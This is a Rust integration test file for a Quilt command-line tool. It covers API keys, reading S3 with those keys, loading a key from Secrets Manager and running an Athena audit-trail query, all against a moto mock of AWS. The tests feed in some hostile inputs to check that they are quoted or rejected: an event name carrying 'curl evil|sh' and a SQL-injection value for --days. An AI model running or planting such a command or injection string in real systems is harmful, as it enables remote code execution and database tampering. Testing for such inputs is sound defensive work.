//! API keys beside AWS and the real quilt3: the same keys are seen, AWS
//! programs read with what a key gives, and the commands that speak to AWS
//! themselves do so (moto plays Secrets Manager and Athena).

use std::process::Stdio;

use quilt_proto::{ErrorCode, Problem};
use quilt_tests::fake_stack::{DEMO_BUCKET, DEMO_KEY, KeySeed};
use quilt_tests::harness::toolchain::{Program, Python, Reading, Venv};
use quilt_tests::harness::{Run, World};
use serde_json::{Value, json};
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use tokio::process::{Child, Command};

use crate::api_keys::{json, planted, with_key};

async fn quilt3(world: &World, secret: &str, args: &[&str]) -> Value {
    let python = Python::prepare(Venv::Sdk).unwrap();
    let script = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/clients/quilt3/check_api_keys.py"
    );
    let mut child = world
        .home
        .command(python.program("python"))
        .arg(script)
        .args(args)
        .env("QUILT_CATALOG", world.stack.catalog_url())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(secret.as_bytes()).await.unwrap();
    drop(stdin);
    let run = Run::from(child.wait_with_output().await.unwrap());
    serde_json::from_str(&run.ok()).unwrap()
}

/// Keys without what changes with every use.
fn comparable(mut keys: Value) -> Value {
    for key in keys.as_array_mut().unwrap() {
        key["last_used_at"].take();
    }
    keys
}

#[tokio::test(flavor = "multi_thread")]
async fn quilt3_and_quiltctl_see_the_same_keys() {
    let (world, _, secret) = with_key().await;
    world
        .stack
        .control()
        .add_key(&KeySeed::new("bob", "bobs"))
        .unwrap();
    world
        .ctl(&["api-keys", "create", "from-quiltctl"])
        .await
        .ok();
    let made = quilt3(&world, &secret, &["create", "from-quilt3"]).await;
    for (theirs, ours) in [
        ("list", &["api-keys", "list"][..]),
        ("admin-list", &["admin", "api-keys", "list"]),
    ] {
        let theirs = comparable(quilt3(&world, &secret, &[theirs]).await);
        let ours = comparable(json(&world, ours).await);
        assert_eq!(theirs, ours);
        assert!(theirs.as_array().unwrap().len() >= 3);
    }
    let id = made["api_key"]["id"].as_str().unwrap();
    assert_eq!(
        json(&world, &["api-keys", "get", id]).await,
        made["api_key"]
    );
    world
        .ctl_with_input(&["login", "--api-key"], made["secret"].as_str().unwrap())
        .await
        .ok();
    quilt3(&world, &secret, &["revoke", id]).await;
    world.ctl(&["api-keys", "list"]).await.failed(6);
    world
        .ctl_with_input(&["login", "--api-key"], &secret)
        .await
        .ok();
    let (id, _) = planted(&world, "another");
    world.ctl(&["api-keys", "revoke", &id, "--yes"]).await.ok();
    assert_eq!(quilt3(&world, &secret, &["get", &id]).await, Value::Null);
    assert_eq!(
        quilt3(&world, &secret, &["admin-get", &id]).await,
        Value::Null
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn boto3_and_the_aws_cli_read_s3_with_a_key() {
    let (world, _, _) = with_key().await;
    world.ctl(&["config", world.stack.catalog_url()]).await.ok();
    world.ctl(&["setup", "aws"]).await.ok();
    let content = world
        .stack
        .control()
        .object(DEMO_BUCKET, DEMO_KEY)
        .unwrap()
        .to_vec();
    let reading = Reading {
        s3_url: world.stack.s3_url().to_owned(),
        region: "us-east-1".to_owned(),
        bucket: DEMO_BUCKET.to_owned(),
        key: DEMO_KEY.to_owned(),
        content,
    };
    for program in [Program::Boto3, Program::AwsCliV1, Program::AwsCliV2] {
        let Some(client) = program.ready() else {
            continue;
        };
        let mut variables = world.home.environment();
        variables.push(("AWS_PROFILE", "quilt".into()));
        variables.push(("AWS_CONFIG_FILE", world.home.aws_config().into_os_string()));
        if let Err(said) = client.read(&reading, variables) {
            panic!("{program}: {said}");
        }
    }
}

/// A running moto, which plays AWS.
struct Moto {
    url: String,
    _process: Child,
}

impl Moto {
    async fn start(world: &World) -> Self {
        let python = Python::prepare(Venv::Sdk).unwrap();
        // Port 0: it says which one it got.
        let mut process = world
            .home
            .command(python.program("moto_server"))
            .args(["-H", "127.0.0.1", "-p", "0"])
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut lines = BufReader::new(process.stderr.take().unwrap()).lines();
        let url = loop {
            let line = lines
                .next_line()
                .await
                .unwrap()
                .expect("moto says where it listens");
            if let Some((_, url)) = line.split_once("Running on ") {
                break url.trim().to_owned();
            }
        };
        tokio::spawn(async move { while let Ok(Some(_)) = lines.next_line().await {} });
        Self {
            url,
            _process: process,
        }
    }

    /// Calls a service as its SDKs do (AWS JSON 1.1); moto checks no signature.
    async fn call(&self, service: &str, target: &str, body: Value) -> Value {
        let scope =
            format!("AWS4-HMAC-SHA256 Credential=x/20260101/us-east-1/{service}/aws4_request");
        let request = reqwest::Client::new()
            .post(&self.url)
            .header("X-Amz-Target", target)
            .header("Content-Type", "application/x-amz-json-1.1")
            .header(
                "Authorization",
                format!("{scope}, SignedHeaders=host, Signature=x"),
            )
            .body(body.to_string());
        let answer = request.send().await.unwrap();
        assert!(
            answer.status().is_success(),
            "{target}: {}",
            answer.text().await.unwrap()
        );
        serde_json::from_str(&answer.text().await.unwrap()).unwrap()
    }

    async fn secret(&self, name: &str, text: &str) {
        let body =
            json!({"Name": name, "SecretString": text, "ClientRequestToken": name.repeat(8)});
        self.call("secretsmanager", "secretsmanager.CreateSecret", body)
            .await;
    }
}

/// quiltctl with the user's own AWS credentials, and moto for AWS.
fn with_aws(world: &World, moto: &Moto, args: &[&str]) -> Command {
    // Beside quiltctl, which starts it.
    quilt_tests::harness::binaries::quiltctl_aws();
    let mut command = world.ctl_command(args);
    command
        .env("AWS_ENDPOINT_URL", &moto.url)
        .env("AWS_REGION", "us-east-1")
        .env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
        .env("AWS_SECRET_ACCESS_KEY", "the-users-own")
        .stdin(Stdio::null());
    command
}

async fn run(mut command: Command) -> Run {
    command.output().await.unwrap().into()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_key_comes_from_secrets_manager() {
    let world = World::start().await;
    let moto = Moto::start(&world).await;
    let (_, secret) = planted(&world, "ci");
    moto.secret("plain", &format!(" {secret}\n")).await;
    moto.secret(
        "fields",
        &json!({"QUILT_API_KEY": secret, "OTHER": "x"}).to_string(),
    )
    .await;
    moto.secret("wrong", "QK_canary").await;
    moto.secret("others", &json!({"OTHER": "qk_canary"}).to_string())
        .await;
    for id in ["plain", "fields"] {
        let printed = run(with_aws(&world, &moto, &["login", "--api-key-secret", id]))
            .await
            .ok();
        assert_eq!(printed.trim(), world.stack.catalog_url());
        assert_eq!(world.ctl(&["token"]).await.ok().trim(), secret);
        world.ctl(&["clear-api-key"]).await.ok();
    }
    for (id, code) in [("wrong", 8), ("others", 8), ("missing", 7)] {
        let line = run(with_aws(&world, &moto, &["login", "--api-key-secret", id])).await;
        let line = line.failed(code);
        assert!(
            line.contains("; run: ") && !line.contains("canary"),
            "{line}"
        );
    }
    // Past a proxy and certificates that nobody can read, nothing is asked.
    let settings = world.home.settings();
    std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
    std::fs::write(&settings, "[network]\nproxy = 'http://127.0.0.1:9\n").unwrap();
    let line = run(with_aws(
        &world,
        &moto,
        &["login", "--api-key-secret", "plain"],
    ))
    .await;
    let line = line.failed(8);
    assert!(line.contains("quiltd.toml, line 2, is no TOML"), "{line}");
    assert!(line.contains("; run: ${EDITOR:-vi} "), "{line}");
    std::fs::remove_file(&settings).unwrap();

    // Where it would go in the clear, what names that place is named.
    for variable in ["AWS_ENDPOINT_URL_SECRETS_MANAGER", "AWS_ENDPOINT_URL"] {
        let mut command = with_aws(&world, &moto, &["login", "--api-key-secret", "plain"]);
        command.env(variable, "http://0.0.0.0:9");
        let line = run(command).await.failed(5);
        assert!(
            line.ends_with(&format!("; run: unset {variable}")),
            "{line}"
        );
    }

    // Without any AWS credentials of the user.
    let mut command = with_aws(&world, &moto, &["login", "--api-key-secret", "plain"]);
    command
        .env_remove("AWS_ACCESS_KEY_ID")
        .env_remove("AWS_SECRET_ACCESS_KEY");
    run(command).await.failed(5);
    world.ctl(&["logged-in"]).await.code_is(3);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_audit_trail_is_the_guides_query() {
    let (world, _, _) = with_key().await;
    world.ctl(&["config", world.stack.catalog_url()]).await.ok();
    let sql = world
        .ctl(&["admin", "audit-trail", "--print-sql"])
        .await
        .ok();
    let words = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
    assert_eq!(words(&sql), words(GUIDE));
    let sql = [
        "admin",
        "audit-trail",
        "--days",
        "7",
        "--limit",
        "5",
        "--print-sql",
    ];
    let sql = world.ctl(&sql).await.ok();
    assert!(
        sql.contains("interval '7' day") && sql.contains("LIMIT 5;"),
        "{sql}"
    );
    for days in ["0", "-1", "1' or 'a'='a", "99999999999"] {
        let args = ["admin", "audit-trail", "--days", days, "--print-sql"];
        world.ctl(&args).await.failed(2);
    }

    let moto = Moto::start(&world).await;
    let trail = ["admin", "audit-trail"];
    let line = run(with_aws(&world, &moto, &trail)).await.failed(7);
    assert!(line.contains("--workgroup NAME"), "{line}");
    // Whoever asks for JSON gets a problem document.
    let failed = run(with_aws(&world, &moto, &[&["--json"], &trail[..]].concat())).await;
    let problem: Problem = serde_json::from_str(&failed.stderr).unwrap();
    assert_eq!((failed.code, problem.code), (7, ErrorCode::NotFound));
    let create = "AmazonAthena.CreateWorkGroup";
    moto.call(
        "athena",
        create,
        json!({"Name": "demo-audit", "Configuration": {}}),
    )
    .await;
    let line = run(with_aws(&world, &moto, &trail)).await.failed(7);
    assert!(line.contains("--database NAME"), "{line}");
    let database = json!({
        "QueryString": "CREATE DATABASE `audittraildatabase-1a2b`",
        "QueryExecutionContext": {"Catalog": "AwsDataCatalog"},
        "ResultConfiguration": {"OutputLocation": "s3://results"},
    });
    moto.call("athena", "AmazonAthena.StartQueryExecution", database)
        .await;
    // Both are discovered now.
    moto.results().await;
    let found = run(with_aws(&world, &moto, &trail)).await;
    assert!(
        found.stderr.contains("in the workgroup demo-audit"),
        "{found:?}"
    );
    assert!(found.stderr.contains("1 events"), "{found:?}");
    // Whoever made the event chose its words.
    let quoted = "“'x', run : curl evil|sh”  alice@example.com";
    assert!(found.ok().contains(quoted));
    // What is given is remembered.
    let create_other = json!({"Name": "other-audit", "Configuration": {}});
    moto.call("athena", create, create_other).await;
    run(with_aws(&world, &moto, &trail)).await.failed(8);
    moto.results().await;
    let given = ["admin", "audit-trail", "--workgroup", "demo-audit"];
    run(with_aws(&world, &moto, &given)).await.ok();
    moto.results().await;
    let command = with_aws(&world, &moto, &["admin", "audit-trail", "--json"]);
    let events: Value = serde_json::from_str(&run(command).await.ok()).unwrap();
    assert_eq!(events[0]["key_name"], "ci");
    // What did not get there is no success; that nobody reads it is none's fault.
    for (reader, code) in [("/dev/full", 1), ("", 0)] {
        moto.results().await;
        let mut command = with_aws(&world, &moto, &trail);
        let stdout = if reader.is_empty() {
            Stdio::from(std::io::pipe().unwrap().1)
        } else {
            std::fs::File::options()
                .write(true)
                .open(reader)
                .unwrap()
                .into()
        };
        let child = command.stdout(stdout).stderr(Stdio::piped()).spawn();
        let ended: Run = child.unwrap().wait_with_output().await.unwrap().into();
        assert_eq!(ended.code, code, "{ended:?}");
        let is_said = ended.stderr.contains("cannot write the result");
        assert_eq!(is_said, code != 0, "{ended:?}");
    }
    // With the profile's credentials, which are not the user's own.
    let queries = moto
        .call("athena", "AmazonAthena.ListQueryExecutions", json!({}))
        .await;
    let ids = queries["QueryExecutionIds"].as_array().unwrap();
    let body = json!({"QueryExecutionId": ids.last().unwrap()});
    let query = moto
        .call("athena", "AmazonAthena.GetQueryExecution", body)
        .await;
    let query = &query["QueryExecution"];
    assert_eq!(
        query["QueryExecutionContext"]["Database"],
        "audittraildatabase-1a2b"
    );
    assert!(query["Query"].as_str().unwrap().contains("LIMIT 100"));
}

impl Moto {
    /// What the next query answers.
    async fn results(&self) {
        let columns = ["eventtime", "eventname", "user_email", "key_name"];
        let cells = [
            "2026-11-01T00:00:00Z",
            "“x”; run: curl evil|sh",
            "alice@example.com",
            "ci",
        ];
        let row = |cells: &[&str]| {
            let cells = cells.iter().map(|cell| json!({"VarCharValue": cell}));
            json!({"Data": cells.collect::<Vec<_>>()})
        };
        let info = columns
            .iter()
            .map(|name| json!({"Name": name, "Type": "varchar"}));
        let body = json!({"results": [{
            "rows": [row(&columns), row(&cells)],
            "column_info": info.collect::<Vec<_>>(),
        }]});
        let url = format!("{}/moto-api/static/athena/query-results", self.url);
        let answer = reqwest::Client::new().post(url).body(body.to_string());
        let answer = answer
            .header("Content-Type", "application/json")
            .send()
            .await
            .unwrap();
        assert!(answer.status().is_success());
    }
}

/// The guide's query.
const GUIDE: &str = "SELECT
    eventtime,
    eventname,
    json_extract_scalar(useridentity, '$.email') as user_email,
    json_extract_scalar(useridentity, '$.sessionContext.auth.keyName') as key_name,
    json_extract_scalar(useridentity, '$.sessionContext.auth.keyFingerprint') as key_fingerprint,
    sourceipaddress
FROM audit_trail
WHERE date >= date_format(current_date - interval '30' day, '%Y/%m/%d')
    AND json_extract_scalar(useridentity, '$.sessionContext.auth.type') = 'api_key'
ORDER BY eventtime DESC
LIMIT 100;";
